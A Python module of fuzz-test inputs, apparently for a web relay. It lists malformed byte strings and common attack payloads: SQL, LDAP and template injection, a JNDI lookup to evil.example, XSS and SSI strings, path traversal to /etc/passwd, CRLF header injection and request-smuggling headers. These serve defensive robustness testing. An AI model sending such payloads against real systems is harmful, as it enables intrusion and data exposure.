"""Texts that had others into trouble: bytes, for not all of them are text."""

from __future__ import annotations

SPELLINGS: tuple[bytes, ...] = (
    b"",
    b" ",
    b"\x00",
    b"anna\x00@corp.example.com",
    b"anna@corp.example.com\r\nX-Injected: yes",
    b"anna\n2026-11-30 [info] relay.started",
    b"\xff\xfe",
    b"anna\xff",
    b"\xc0\xaf",  # overlong
    b"\xed\xa0\x80",  # half of a surrogate pair
    b"\xf4\x90\x80\x80",  # beyond Unicode
    "ａｎｎａ＠corp.example.com".encode(),  # noqa: RUF001 - full-width
    "\u202eanna\u202c".encode(),  # right to left
    "an\u200bna\ufeff".encode(),
    "anna\u2028x\u2029".encode(),
    "a\u0301".encode() * 30,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467".encode(),
    "İstanbul ſmith straße K".encode(),  # noqa: RUF001 - what folds to something else
    b"CORP\\  ben",
    b"ben @corp.example.com",
    b"\\\\server\\share",
    b"@",
    b"\\",
    b"a@b@c",
    b"../../../../etc/passwd",
    b"..%2f..%2fetc",
    b"%00%0a%1b",
    b"%s%n%x{0}{user!r}",
    b"${jndi:ldap://evil.example/a}",
    b"{{7*7}}{%raw%}",
    b"*)(uid=*))(|(uid=*",
    b"' OR 1=1 --",
    b"=cmd|' /C calc'!A0",
    b"-h",
    b"--help",
    b"true",
    b"null",
    b"1e999",
    b"-1",
    b"9" * 400,
    b"[" * 400,
    b'{"a":' * 100,
)
MARKUP: tuple[bytes, ...] = (
    b'"><script>alert(1)</script>',
    b"</title><b>bold",
    b"'><img src=x onerror=alert(1)>",
    b"javascript:alert(1)",
    b"<!--#exec cmd='id'-->",
    b"]]>&xxe;",
    b"[/b]x",
    b"[/0.1.0]",
    b"[link=https://evil.example]click[/link]",
    b"\x1b[2J\x1b]0;title\x07",
    "\x9b31m\x9d0;title\x9c".encode(),
    b"\x9b31m",
    b"\x08\x08\x7f",
)
ADDRESSES: tuple[bytes, ...] = (
    b"203.0.113.5",
    b"203.0.113.5:4711",
    b"[2001:db8::1]:4711",
    b'"[2001:db8::1]:4711"',
    b"::ffff:203.0.113.5",
    b"fe80::1%eth0",
    b'fe80::1%"><b>bold',
    b"fe80::1%\x1b[2J",
    b"010.0.0.1",
    b"unknown",
    b"_hidden",
    b"203.0.113.5, 203.0.113.6",
    b",,,,",
    b"203.0.113.5\xff",
    b"https://203.0.113.5/",
    b"0x7f.1",
)
COOKIES: tuple[bytes, ...] = (
    b"__Host-isthmus=",
    b"__Host-isthmus=x; __Host-isthmus=y",
    b"x=y __Host-isthmus=z",
    b'"; __Host-isthmus="',
    b"\xe2\x80\x80__Host-isthmus=z",
    b"\xff=\xff",
    b"=;=;;;",
    b"$Version=1; $Path=/",
    b"a" * 4000 + b"=b",
    b"a=b; " * 1500,
)
TEXTS = tuple(dict.fromkeys(SPELLINGS + MARKUP + ADDRESSES + COOKIES))
"""All of them, for every place that takes a text."""
SIZES = (0, 1, 63, 64, 65, 255, 256, 257, 1024, 1025, 4096, 8190, 16_385, 65_537, 1_100_000)
"""Bytes: around the bounds that there are, and far beyond."""
HEADERS: tuple[bytes, ...] = (
    *(b"User-Agent: " + text for text in (b"", b"\xff\xfe", b"a" * 5000, "\u202e".encode(), b'"><b>bold')),
    *(b"Cookie: " + text for text in COOKIES),
    *(b"X-Forwarded-For: " + text for text in ADDRESSES),
    *(
        b"Accept-Language: " + text
        for text in (b"\xff", b"de;q=\xff", b"de;q=nan", b"de;q=1e999", b"," * 3000, b"x-" * 2000)
    ),
    *(b"Accept: " + text for text in (b"text/html\xff", b"\xff", b"text/html")),
    *(b"Authorization: " + text for text in (b"", b"Bearer", b"Bearer \xff", b"Basic \xff", b"Negotiate YII=", b"Digest x")),
    *(b"Origin: " + text for text in (b"null", b"\xff", b"https://evil.example", b"https://[", b"")),
    *(b"Sec-Fetch-Site: " + text for text in (b"\xff", b"cross-site", b"")),
    *(
        b"Content-Type: " + text
        for text in (b"\xff", b"text/plain; charset=\xff", b"text/plain; charset=none", b";", b"a/b/c")
    ),
    b"Content-Type: application/x-www-form-urlencoded; charset=utf-7",
    b"Content-Type: application/json; charset=utf-16",
    b"Content-Type: multipart/form-data; boundary=\xff",
    *(b"Content-Encoding: " + text for text in (b"gzip", b"deflate", b"br", b"zstd", b"\xff")),
    *(b"Transfer-Encoding: " + text for text in (b"\xff", b"chunked, chunked", b"gzip")),
    *(b"Content-Length: " + text for text in (b"-1", b"+1", b"1e3", b"\xff", b"0x10", b"9" * 40)),
    *(b"Expect: " + text for text in (b"\xff", b"200-ok")),
    *(b"Range: " + text for text in (b"bytes=\xff", b"bytes=5-1", b"bytes=0-" + b"9" * 40)),
    *(b"If-Modified-Since: " + text for text in (b"\xff", b"Thu, 01 Jan 99999 00:00:00 GMT")),
    *(b"Host: " + text for text in (b"\xff", b"evil.example", b"a:b:c", b"[", b"relay:99999999")),
    *(b"X-Correlation-Id: " + text for text in (b"<b>bold", b"\xff")),
    *(b"Connection: " + text for text in (b"\xff", b"Upgrade, keep-alive")),
    b"Upgrade: h2c",
    b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: \xff\r\nSec-WebSocket-Version: 13",
    b"Forwarded: for=\xff",
    b"\xff: x",
    b"no colon",
    b": empty name",
    b"Long: " + b"x" * 8000,
    b"\r\nsmuggled: x",
    *(b"Many: x\r\n" * 200,),
)
"""Lines that are added to an ordinary request. Not all of them make one."""
